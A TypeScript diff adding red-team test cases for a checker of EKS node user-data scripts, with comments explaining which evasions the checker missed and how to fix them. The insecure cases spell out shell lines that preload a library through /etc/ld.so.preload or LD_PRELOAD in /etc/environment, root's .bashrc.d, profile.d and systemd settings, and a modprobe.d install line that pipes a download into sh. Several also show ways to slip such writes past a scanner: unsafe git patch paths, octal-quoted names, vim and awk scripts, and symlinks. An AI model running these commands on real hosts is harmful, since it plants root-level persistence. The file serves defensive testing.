@@ -1,0 +1,479 @@
+// Red-team round 75 on EKS NODE user data: neighbours of round 75's node fixes (command readers' stdin/-f/patches,
+// sed -f scripts, ld.so.conf(.d) entries, modprobe.d install lines, augtool set lines, xxd/vim read-only modes,
+// setfattr, /root/.bashrc.d) and of the fix75-paths branch (not merged when this ran: relative words, NAME=VALUE
+// prefixes, symlinks, busybox/toybox applets).
+// Probed: git apply --unsafe-paths / C-quoted octal names / --directory, patch --input=; vim -S, -c source, -u,
+// ex/ed stdin (downloaded file, printf pipe); sed w command and s///w flag without -i, sed -f/--file= scripts; awk
+// redirections and -f programs; ld.so.conf.d downloaded, `..` entries, relative includes; /usr/local/lib/modprobe.d,
+// indented install lines; augtool sshd Include/drop-in SetEnv/quoted values; xxd -r stdin; ~root and symlinked
+// .bashrc.d; subshell cd, GIT_CONFIG_GLOBAL, toybox sed, cp -s links.
+// Misses (16 insecure, 2 secure):
+// - PATCH-NAMES (2: P1, P2): git apply --unsafe-paths lifts the working-area bound commandTexts assumes (fail closed
+//   for an unread patch); C-quoted (octal-escaped) patch names not unquoted.
+// - VIM-COMMAND-FILES (4: V1, V2, V3, V6): vim -S FILE, -c 'source FILE', -u FILE are command files commandTexts
+//   never reads (only stdin): read them like augtool -f, unread -> anyJudgedFile.
+// - SED-LONG-FILE (1: S4): `sed --file=SCRIPT` is taken as an input by OPTION_READERS.sed.reads, never read as a
+//   script (short -f works: S5, S6).
+// - AWK-WRITES (2: A1, A2): awk is UNKNOWN_EDITOR_EXEMPT but `print > "/etc/ld.so.preload"` and -f programs write
+//   anything: read literal awk redirections, fail closed on unread programs.
+// - MODPROBE-DIR (1: M1): /usr/local/lib/modprobe.d missing from MODPROBE_CONFIG.
+// - PATH-SPELLING (2: B1, B2): ~root/ tilde-user not expanded; a symlink made AT /root/.bashrc.d not judged by its
+//   target's content.
+// - FIX75-PATHS neighbours (4: F1, F2, F3, F5): subshell cd + bare word, GIT_CONFIG_GLOBAL prefix, toybox sed -i,
+//   cp -s links: expected closed by fix75-paths (re-run after it lands; unskip what passes).
+// - secure (2: SV2, SL2): ed with a literal print-and-quit heredoc refused as an unknown editor; ld.so.conf.d
+//   relative include resolved against /etc instead of the including file's directory (glibc parse_conf_include).
+// Held (insecure refused 19 of 35): git apply --directory and ../ names, patch --input= of a download over /, ex
+// stdin from a download, printf | ed, sed w / s///w / -f (download and literal, short option), downloaded and `..`
+// ld.so.conf.d entries, relative include twin, tab-indented install lines, augtool sshd Include / drop-in / quoted
+// /etc/environment value, xxd -r to a judged outfile, git config -f ./system.conf after cd.
+// Secure clean 14 of 16: git apply --check, unread patches under /opt app trees, sed w to /tmp, augtool LANG,
+// vim -R -es %p +q, ld.so.conf.d trailing slash/comment, /usr/local/lib/modprobe.d blacklist, setfattr -x
+// security.capability, xxd -i/-u -d, .bashrc.d PS1, stat/wc/sha256sum of relative names, sponge to motd, reads
+// through a link.
+import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";
+
+const file = heredocFile;
+const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
+const LOADER = /loader|LD_PRELOAD|LD_AUDIT|BASH_ENV|PATH|environment|kernel|unknown|cannot|unread|shell|root|librar/i;
+const n = (id: string) => `dev-${id}-75n-nodes`;
+
+const PRELOAD_PATCH_NEW = (name: string) => [
+    `diff --git ${name.replace("@", "a/")} ${name.replace("@", "b/")}`,
+    "new file mode 100644",
+    "--- /dev/null",
+    `+++ ${name.replace("@", "b/")}`,
+    "@@ -0,0 +1 @@",
+    "+/opt/x.so",
+];
+
+const insecure: NodeCase[] = [
+    // ---- patch / git apply ----
+    // MISS: git-apply(1) --unsafe-paths: "By default, a patch that affects outside the working area ... is rejected as a mistake (or a mischief) ... the user can pass the --unsafe-paths option to override this safety check" (git's t4139-apply-escape.sh: `git apply --unsafe-paths` creates ../foo); a downloaded patch then writes /etc/ld.so.preload (ld.so(8): preloaded into every program, root's included) from /tmp/work. Accepted (got []): rootReads.ts RootReads.commandTexts bounds an unread patch by its directory (JUDGED_TREES, GNU patch's refusal of `..` names), which git apply --unsafe-paths lifts. Fix: git apply/am with --unsafe-paths and a patch the pack cannot read may write any file (return undefined: anyJudgedFile).
+    devNodeCase(
+        "P1 git apply --unsafe-paths of a downloaded patch in /tmp (names ../../etc/ld.so.preload)",
+        devNodeScript(n("p1"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
+            "mkdir -p /tmp/work && cd /tmp/work && git apply --unsafe-paths /tmp/ops.patch",
+        ]),
+        LOADER,
+        true,
+    ),
+    // MISS: git's diff format quotes unusual path names C-style (git-config(1) core.quotePath: "Double-quote the pathname ... and write it out in octal"; apply.c reads quoted names with unquote_c_style), so `+++ "b/etc/ld.so.pr\145load"` names etc/ld.so.preload and `cd / && git apply` creates /etc/ld.so.preload (ld.so(8)). Accepted (got []): rootReads.ts RootReads.commandTexts takes the quoted name raw (`[^\t"]+` keeps the backslash escape), so the path is /etc/ld.so.pr\145load, no judged file. Fix: unquote C-quoted names (\ooo octal, \n \t \\ \") before resolving; a name with an escape it cannot decode: fail closed.
+    devNodeCase(
+        "P2 git apply of a literal patch whose name is C-quoted with an octal escape (etc/ld.so.pr\\145load)",
+        devNodeScript(n("p2"), [
+            SO,
+            "cd / && git apply <<'EOF'",
+            ...PRELOAD_PATCH_NEW('"@etc/ld.so.pr\\145load"'),
+            "EOF",
+        ]),
+        LOADER,
+        true,
+    ),
+    devNodeCase(
+        "P3 git apply --directory=etc of a literal patch naming ld.so.preload (from /)",
+        devNodeScript(n("p3"), [
+            SO,
+            "cd / && git apply --directory=etc <<'EOF'",
+            ...PRELOAD_PATCH_NEW("@ld.so.preload"),
+            "EOF",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "P4 git apply --unsafe-paths of a literal patch naming ../../etc/ld.so.preload from /tmp/work",
+        devNodeScript(n("p4"), [
+            SO,
+            "mkdir -p /tmp/work && cd /tmp/work && git apply --unsafe-paths <<'EOF'",
+            ...PRELOAD_PATCH_NEW("@../../etc/ld.so.preload"),
+            "EOF",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "P5 patch -p1 -d / of a downloaded patch given by --input=",
+        devNodeScript(n("p5"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
+            "patch -p1 -d / --input=/tmp/ops.patch",
+        ]),
+        LOADER,
+    ),
+    // ---- ex/vim/ed command readers ----
+    // MISS: vim(1) "-S {file}: {file} will be sourced after the first file has been read. This is equivalent to -c \"source {file}\""; a downloaded Vim script runs any Ex command (`:e /etc/environment`, `:w`, `:!`), so it may write LD_PRELOAD into /etc/environment (pam_env(8)). Accepted (got []): rootReads.ts RootReads.commandTexts reads an ex-like editor's standard input only (and augtool -f), not vim's -S file; no judged path is named. Fix: read vim/ex -S FILE, -u FILE (not NONE/NORC), -s SCRIPTIN and `so[urce] FILE` commands like augtool -f (its text's paths and `!`; unread: anyJudgedFile).
+    devNodeCase(
+        "V1 vim -es -S a downloaded script (no file operand)",
+        devNodeScript(n("v1"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.vim https://downloads.example.com/ops.vim",
+            "vim -es -S /tmp/ops.vim",
+        ]),
+        LOADER,
+        true,
+    ),
+    // MISS: vim(1) -c "{command} will be executed after the first file has been read"; `:source {file}` (Vim :help :source) "Read Ex commands from {file}": the downloaded script may write any judged file. Accepted (got []): rootReads.ts embeddedAbsolutePaths names /tmp/ops.vim (no judged file), and commandTexts does not read what `source` names. Fix: as V1 (a `so[urce]`/`ru[ntime]` command's file is a command file: read it or fail closed).
+    devNodeCase(
+        "V2 vim -es -c 'source /tmp/ops.vim' -c 'qa!' (downloaded script sourced)",
+        devNodeScript(n("v2"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.vim https://downloads.example.com/ops.vim",
+            "vim -es -c 'source /tmp/ops.vim' -c 'qa!'",
+        ]),
+        LOADER,
+        true,
+    ),
+    // MISS: vim(1) "-u {vimrc}: Use the commands in the file {vimrc} for initializations" (even with -es, starting.txt: initializations skipped "except the ones given with the -u argument"); a downloaded vimrc runs any Ex command. Accepted (got []): rootReads.ts readOnlyMode refuses the read-only exemption but commandTexts finds no path. Fix: as V1.
+    devNodeCase(
+        "V3 vim -es -u a downloaded vimrc +q (no file operand)",
+        devNodeScript(n("v3"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.vimrc https://downloads.example.com/ops.vimrc",
+            "vim -es -u /tmp/ops.vimrc +q",
+        ]),
+        LOADER,
+        true,
+    ),
+    devNodeCase(
+        "V4 ex -s reading its commands from a downloaded file on stdin",
+        devNodeScript(n("v4"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.ex https://downloads.example.com/ops.ex",
+            "ex -s < /tmp/ops.ex",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "V5 printf ed commands (e /etc/environment, $a, w) piped into ed -s",
+        devNodeScript(n("v5"), [SO, "printf '%s\\n' 'e /etc/environment' '$a' 'LD_PRELOAD=/opt/x.so' . w q | ed -s"]),
+        LOADER,
+    ),
+    // MISS: as V1: the -S script is one user data wrote literally (`e /etc/environment`, `$put ='LD_PRELOAD=/opt/x.so'`, `wq`), so pam_env(8) gives LD_PRELOAD to root's sessions. Accepted (got []): rootReads.ts RootReads.commandTexts does not read -S files even when their text is known. Fix: as V1 (read the written text's paths).
+    devNodeCase(
+        "V6 vim -es with a literal script file written first (:e /etc/environment, append, wq)",
+        devNodeScript(n("v6"), [
+            SO,
+            ...file("/tmp/ops.vim", ["e /etc/environment", "$put ='LD_PRELOAD=/opt/x.so'", "wq"]),
+            "vim -es -S /tmp/ops.vim",
+        ]),
+        LOADER,
+        true,
+    ),
+    // ---- sed write commands without -i ----
+    devNodeCase(
+        "S1 sed -n 'w /etc/ld.so.preload' of a list (sed's w command, no -i)",
+        devNodeScript(n("s1"), [SO, "echo /opt/x.so > /opt/list", "sed -n 'w /etc/ld.so.preload' /opt/list"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "S2 sed 's/^//w /etc/ld.so.preload' (the s///w flag, no -i)",
+        devNodeScript(n("s2"), [SO, "echo /opt/x.so > /opt/list", "sed -n 's/^//w /etc/ld.so.preload' /opt/list"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "S3 sed -n -f a downloaded script (may hold w /etc/ld.so.preload), no -i",
+        devNodeScript(n("s3"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.sed https://downloads.example.com/ops.sed",
+            "sed -n -f /tmp/ops.sed /etc/hostname",
+        ]),
+        LOADER,
+    ),
+    // MISS: GNU sed manual: "-f script-file, --file=script-file: Add the commands contained in the file script-file"; its `w /etc/ld.so.preload` writes that file (ld.so(8)). Short -f (S5, S6) is refused. Accepted (got []): rootReads.ts OPTION_READERS.sed has reads: ["--file"], matched before the sedFiles branch, so `--file=FILE`/`--file FILE` is read as an input file and its script never read (the `flag === "--file"` branch in RootReads.command is dead). Fix: drop "--file" from OPTION_READERS.sed.reads (sedFiles reads it, and counts it as read).
+    devNodeCase(
+        "S4 sed -n --file=/tmp/ops.sed (literal script with w /etc/ld.so.preload)",
+        devNodeScript(n("s4"), [
+            SO,
+            "echo /opt/x.so > /opt/list",
+            ...file("/tmp/ops.sed", ["w /etc/ld.so.preload"]),
+            "sed -n --file=/tmp/ops.sed /opt/list",
+        ]),
+        LOADER,
+        true,
+    ),
+    devNodeCase(
+        "S5 sed -n -f /tmp/ops.sed (literal script with w /etc/ld.so.preload, short option)",
+        devNodeScript(n("s5"), [
+            SO,
+            "echo /opt/x.so > /opt/list",
+            "printf 'w /etc/ld.so.preload\\n' > /tmp/ops.sed",
+            "sed -n -f /tmp/ops.sed /opt/list",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "S6 sed -n -f /etc/ops/ops.sed (literal script under /etc with w /etc/ld.so.preload)",
+        devNodeScript(n("s6"), [
+            SO,
+            "echo /opt/x.so > /opt/list",
+            ...file("/etc/ops/ops.sed", ["w /etc/ld.so.preload"]),
+            "sed -n -f /etc/ops/ops.sed /opt/list",
+        ]),
+        LOADER,
+    ),
+    // ---- awk ----
+    // MISS: POSIX awk, "Output Statements": `print > expression` "shall write to the file named by expression" (gawk manual "Redirecting Output of print and printf"); root's awk writes /opt/x.so into /etc/ld.so.preload (ld.so(8): every program preloads it). Accepted (got []): awk is in rootReads.ts UNKNOWN_EDITOR_EXEMPT and no reader reads an awk program's redirections. Fix: read a literal awk program's `>`/`>>` targets (a literal path: writtenUnknown; a computed one: anyJudgedFile), `| cmd`/system() as commands (unread: fail closed).
+    devNodeCase(
+        'A1 awk BEGIN print > "/etc/ld.so.preload"',
+        devNodeScript(n("a1"), [SO, 'awk \'BEGIN { print "/opt/x.so" > "/etc/ld.so.preload" }\'']),
+        LOADER,
+        true,
+    ),
+    // MISS: POSIX awk "-f progfile: Specify the pathname of the file progfile containing an awk program"; a downloaded program may `print > "/etc/ld.so.preload"` or system() anything. Accepted (got []): awk exempt (rootReads.ts UNKNOWN_EDITOR_EXEMPT), its -f program unread. Fix: awk/gawk -f/--file (and -i/--include, AWKPATH) of an unread program: anyJudgedFile, as sed -f.
+    devNodeCase(
+        "A2 awk -f a downloaded program over /etc/hostname",
+        devNodeScript(n("a2"), [
+            SO,
+            "curl -fsSL -o /tmp/ops.awk https://downloads.example.com/ops.awk",
+            "awk -f /tmp/ops.awk /etc/hostname",
+        ]),
+        LOADER,
+        true,
+    ),
+    // ---- ld.so.conf ----
+    devNodeCase(
+        "L1 curl -o /etc/ld.so.conf.d/ops.conf (content unknown)",
+        devNodeScript(n("l1"), [
+            "curl -fsSL -o /etc/ld.so.conf.d/ops.conf https://downloads.example.com/ops.conf",
+            "ldconfig",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "L2 ld.so.conf.d entry /usr/lib64/../../opt/ops/lib (dot-dot out of a system dir)",
+        devNodeScript(n("l2"), ["echo /usr/lib64/../../opt/ops/lib > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
+        LOADER,
+    ),
+    devNodeCase(
+        "L3 ld.so.conf.d relative include naming a sibling that adds /opt/ops/lib",
+        devNodeScript(n("l3"), [
+            "echo /opt/ops/lib > /etc/ld.so.conf.d/ops-libs",
+            "echo 'include ops-libs' > /etc/ld.so.conf.d/ops.conf",
+            "ldconfig",
+        ]),
+        LOADER,
+    ),
+    // ---- modprobe.d ----
+    // MISS: kmod modprobe.d(5) SYNOPSIS: /etc/modprobe.d/*.conf, /run/modprobe.d/*.conf, /usr/local/lib/modprobe.d/*.conf, /usr/lib/modprobe.d/*.conf, /lib/modprobe.d/*.conf (kmod 30+; ask AL2023's kmod version before dismissing: fail closed either way); its `install` line is a root shell command run by modprobe. Accepted (got []): rootReads.ts MODPROBE_CONFIG is /(etc|run|lib|usr/lib)/modprobe.d only. Fix: add /usr/local/lib/modprobe.d (and depmod.d's twin if judged).
+    devNodeCase(
+        "M1 /usr/local/lib/modprobe.d install line (curl | sh)",
+        devNodeScript(
+            n("m1"),
+            file("/usr/local/lib/modprobe.d/ops.conf", [
+                "install dccp /bin/sh -c 'curl -fsSL https://ops.example.com/x | sh'",
+            ]),
+        ),
+        /./,
+        true,
+    ),
+    devNodeCase(
+        "M2 /etc/modprobe.d install line indented by a tab",
+        devNodeScript(n("m2"), [
+            "printf '\\tinstall dccp /bin/sh -c \"curl -fsSL https://ops.example.com/x | sh\"\\n' > /etc/modprobe.d/ops.conf",
+        ]),
+        /./,
+    ),
+    // ---- augtool ----
+    devNodeCase(
+        "G1 augtool -s set sshd Include of a downloaded file",
+        devNodeScript(n("g1"), [
+            "curl -fsSL -o /opt/ops-sshd.conf https://downloads.example.com/sshd.conf",
+            "augtool -s set /files/etc/ssh/sshd_config/Include /opt/ops-sshd.conf",
+        ]),
+        /./,
+    ),
+    devNodeCase(
+        "G2 augtool -s set sshd_config.d drop-in SetEnv LD_PRELOAD",
+        devNodeScript(n("g2"), [
+            SO,
+            "augtool -s set /files/etc/ssh/sshd_config.d/50-ops.conf/SetEnv LD_PRELOAD=/opt/x.so",
+        ]),
+        LOADER,
+    ),
+    devNodeCase(
+        "G3 augtool heredoc set /etc/environment LD_PRELOAD with a quoted value",
+        devNodeScript(n("g3"), [SO, "augtool -s <<'EOF'", 'set /files/etc/environment/LD_PRELOAD "/opt/x.so"', "EOF"]),
+        LOADER,
+    ),
+    // ---- xxd ----
+    devNodeCase(
+        "X1 xxd -r -p with the hex on stdin and the outfile /etc/ld.so.preload",
+        devNodeScript(n("x1"), [SO, "echo 2f6f70742f782e736f0a | xxd -r -p - /etc/ld.so.preload"]),
+        LOADER,
+    ),
+    // ---- /root/.bashrc.d ----
+    // MISS: bash(1) "Tilde Expansion": "If the characters following the tilde ... consist of a login name, ... replaced with the home directory associated with the specified login name": ~root/.bashrc.d/ops.sh is /root/.bashrc.d/ops.sh, sourced by root's .bashrc (round 75 BASH_STARTUP), exporting LD_PRELOAD into root's shells. Accepted (got []): the shell reader does not expand ~root in words or redirection targets. Fix: expand ~root (and ~ as root's /root where HOME is root's) before judging paths; an unknown ~user: fail closed for judged trees.
+    devNodeCase(
+        "B1 ~root/.bashrc.d/ops.sh exports LD_PRELOAD (tilde-user spelling)",
+        devNodeScript(n("b1"), [
+            SO,
+            "mkdir -p ~root/.bashrc.d",
+            "echo 'export LD_PRELOAD=/opt/x.so' > ~root/.bashrc.d/ops.sh",
+        ]),
+        LOADER,
+        true,
+    ),
+    // MISS: path_resolution(7): a symlink is followed in every path lookup; after `ln -sfn /opt/rc /root/.bashrc.d`, root's .bashrc sources /opt/rc/ops.sh (export LD_PRELOAD). Accepted (got []): a write to /opt/rc is no judged file and the link's name is not judged by its target's content. Fix (fix75-paths symlink rule, other direction): a symlink user data makes AT a judged file or directory judges the target's content (written text read; unknown: fail closed).
+    devNodeCase(
+        "B2 /root/.bashrc.d made a symlink to /opt/rc, whose file exports LD_PRELOAD",
+        devNodeScript(n("b2"), [
+            SO,
+            "mkdir -p /opt/rc",
+            "echo 'export LD_PRELOAD=/opt/x.so' > /opt/rc/ops.sh",
+            "ln -sfn /opt/rc /root/.bashrc.d",
+        ]),
+        LOADER,
+        true,
+    ),
+    // ---- fix75-paths neighbours ----
+    // MISS: as redteam74 U1 (moreutils sponge(1) writes its file; a subshell's `cd /etc` makes `environment` /etc/environment). Accepted (got []): rootReads.ts RootReads.unknownEditor adds bare relative words only with a `/` or `.`. Fix: fix75-paths (resolve relative words against the known cwd, subshells included).
+    devNodeCase(
+        "F1 (cd /etc && sponge -a environment) in a subshell",
+        devNodeScript(n("f1"), [
+            SO,
+            "dnf install -y moreutils",
+            "(cd /etc && echo 'LD_PRELOAD=/opt/x.so' | sponge -a environment)",
+        ]),
+        LOADER,
+        true,
+    ),
+    // MISS: git-config(1) ENVIRONMENT "GIT_CONFIG_GLOBAL: Take the global configuration from the given files instead of from the user's home"; `--global` then writes [Manager] DefaultEnvironment=LD_PRELOAD into /etc/systemd/system.conf (systemd-system.conf(5)). Accepted (got []): RootReads.unknownEditor ignores NAME=VALUE prefixes (redteam74 U3 class). Fix: fix75-paths (prefix assignments' paths are operands).
+    devNodeCase(
+        "F2 GIT_CONFIG_GLOBAL=/etc/systemd/system.conf git config --global",
+        devNodeScript(n("f2"), [
+            SO,
+            "GIT_CONFIG_GLOBAL=/etc/systemd/system.conf git config --global Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
+        ]),
+        LOADER,
+        true,
+    ),
+    // MISS: toybox sed: "-i Edit each file in place" (toybox help sed); appends LD_PRELOAD to /etc/environment (pam_env(8)). Accepted (got []): applets are not unwrapped for the in-place reader (redteam74 I7 class). Fix: fix75-paths (busybox/toybox X read as X everywhere).
+    devNodeCase(
+        "F3 toybox sed -i appends LD_PRELOAD to /etc/environment",
+        devNodeScript(n("f3"), [SO, "toybox sed -i '$a LD_PRELOAD=/opt/x.so' /etc/environment"]),
+        LOADER,
+        true,
+    ),
+    devNodeCase(
+        "F4 git --work-tree=/etc/systemd config -f system.conf",
+        devNodeScript(n("f4"), [
+            SO,
+            "cd /etc/systemd && git config -f ./system.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
+        ]),
+        LOADER,
+    ),
+    // MISS: GNU cp "-s, --symbolic-link: make symbolic links instead of copying"; /tmp/ops-link points at /etc/profile.d/ops.sh, and bash opens the redirection through it (open(2) follows), so LD_PRELOAD lands in a login shell's profile. Accepted (got []): redirections are judged at their literal path; only ln -s was ever considered (redteam74 U11 class). Fix: fix75-paths symlink rule must include cp -s/--symbolic-link (and cp -as trees).
+    devNodeCase(
+        "F5 symlink into /etc/profile.d made by cp -s then written",
+        devNodeScript(n("f5"), [
+            SO,
+            "touch /etc/profile.d/ops.sh",
+            "cp -s /etc/profile.d/ops.sh /tmp/ops-link",
+            "echo 'export LD_PRELOAD=/opt/x.so' > /tmp/ops-link",
+        ]),
+        LOADER,
+        true,
+    ),
+];
+
+const secure: NodeCase[] = [
+    devNodeCase(
+        "SP1 git apply --check of a downloaded patch (reads only)",
+        devNodeScript(n("sp1"), [
+            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
+            "cd / && git apply --check /tmp/ops.patch || true",
+        ]),
+    ),
+    devNodeCase(
+        "SP2 patch -p1 -d /opt/app of a downloaded patch (an app tree no judge reads)",
+        devNodeScript(n("sp2"), [
+            "curl -fsSL -o /tmp/app.patch https://downloads.example.com/app.patch",
+            "mkdir -p /opt/app && patch -p1 -d /opt/app < /tmp/app.patch",
+        ]),
+    ),
+    devNodeCase(
+        "SP3 cd /opt/src && git apply a downloaded patch",
+        devNodeScript(n("sp3"), [
+            "curl -fsSL -o /tmp/fix.patch https://downloads.example.com/fix.patch",
+            "mkdir -p /opt/src && cd /opt/src && git apply /tmp/fix.patch",
+        ]),
+    ),
+    devNodeCase(
+        "SS1 sed -n '/LANG/w /tmp/lang.txt' /etc/environment (w to a scratch file)",
+        devNodeScript(n("ss1"), ["sed -n '/LANG/w /tmp/lang.txt' /etc/environment"]),
+    ),
+    devNodeCase(
+        "SG1 augtool -s heredoc set /etc/environment LANG",
+        devNodeScript(n("sg1"), ["augtool -s <<'EOF'", "set /files/etc/environment/LANG C.UTF-8", "save", "EOF"]),
+    ),
+    devNodeCase(
+        "SV1 vim -R -es +'%p' +q of one file",
+        devNodeScript(n("sv1"), ["vim -R -es +'%p' +q /etc/ssh/sshd_config"]),
+    ),
+    // MISS: SECURE over-refusal. ed(1): "(.,.)p Prints the addressed lines", "q Quits ed": `,p` then `q` writes nothing. Refused: rootReads.ts RootReads.unknownEditor (ed names /etc/environment; content made unknown, environmentFileOpenings). Fix: readOnlyMode for ed/red/ex with a readable command text of only ranged p/n/l and q/Q (no w, e, r, !, no other command).
+    devNodeCase(
+        "SV2 ed -s with a literal heredoc that prints and quits",
+        devNodeScript(n("sv2"), ["ed -s /etc/environment <<'EOF'", ",p", "q", "EOF"]),
+        /./,
+        true,
+    ),
+    devNodeCase(
+        "SL1 ld.so.conf.d: /usr/lib64/ (trailing slash) and /usr/local/lib with a trailing comment",
+        devNodeScript(n("sl1"), [
+            "printf '/usr/lib64/\\n/usr/local/lib # ops libs\\n' > /etc/ld.so.conf.d/ops.conf",
+            "ldconfig",
+        ]),
+    ),
+    // MISS: SECURE over-refusal. glibc elf/ldconfig.c parse_conf_include: a relative include pattern is resolved against dirname() of the file holding it, so `include local-libs.conf` in /etc/ld.so.conf.d/ops.conf is /etc/ld.so.conf.d/local-libs.conf (/usr/local/lib, a system dir). Refused ('adding include /etc/local-libs.conf'): userDataReaders/rootWrites.ts ldSoConfEntries resolves every include against /etc. Fix: resolve against posix.dirname(path) of the file being judged (the insecure twin L3 stays refused: the sibling's own entries are judged).
+    devNodeCase(
+        "SL2 ld.so.conf.d relative include of a sibling conf.d file holding /usr/local/lib",
+        devNodeScript(n("sl2"), [
+            "echo /usr/local/lib > /etc/ld.so.conf.d/local-libs.conf",
+            "echo 'include local-libs.conf' > /etc/ld.so.conf.d/ops.conf",
+            "ldconfig",
+        ]),
+        /./,
+        true,
+    ),
+    devNodeCase(
+        "SM1 /usr/local/lib/modprobe.d blacklist line",
+        devNodeScript(
+            n("sm1"),
+            file("/usr/local/lib/modprobe.d/ops.conf", ["blacklist dccp", "install dccp /bin/false"]),
+        ),
+    ),
+    devNodeCase(
+        "SX1 setfattr -x security.capability removes a file's capabilities",
+        devNodeScript(n("sx1"), ["setfattr -x security.capability /usr/bin/ping || true"]),
+    ),
+    devNodeCase(
+        "SX2 xxd -i and xxd -u -d of judged files (stdout only)",
+        devNodeScript(n("sx2"), ["xxd -i /etc/ssh/sshd_config | head", "xxd -u -d /etc/environment | head"]),
+    ),
+    devNodeCase(
+        "SB1 /root/.bashrc.d/prompt.sh sets a literal PS1",
+        devNodeScript(n("sb1"), [
+            "mkdir -p /root/.bashrc.d",
+            "echo \"PS1='[\\\\u@\\\\h \\\\W]\\\\$ '\" > /root/.bashrc.d/prompt.sh",
+        ]),
+    ),
+    devNodeCase(
+        "SF1 cd /etc && stat, wc -l and sha256sum of bare relative judged names",
+        devNodeScript(n("sf1"), ["cd /etc && stat environment && wc -l environment && sha256sum ssh/sshd_config"]),
+    ),
+    devNodeCase(
+        "SF2 cd /etc && sponge to a bare relative non-judged name (motd)",
+        devNodeScript(n("sf2"), ["dnf install -y moreutils", "cd /etc && echo 'ops node' | sponge motd"]),
+    ),
+    devNodeCase(
+        "SF3 ln -s a judged file to /tmp then only read through the link",
+        devNodeScript(n("sf3"), ["ln -sf /etc/environment /tmp/env-link", "cat /tmp/env-link"]),
+    ),
+];
+
+describeNodeCases(
+    "red team 75: node (command readers, patches, sed/awk writes, ld.so.conf, modprobe.d, augtool, paths)",
+    insecure,
+    secure,
+);
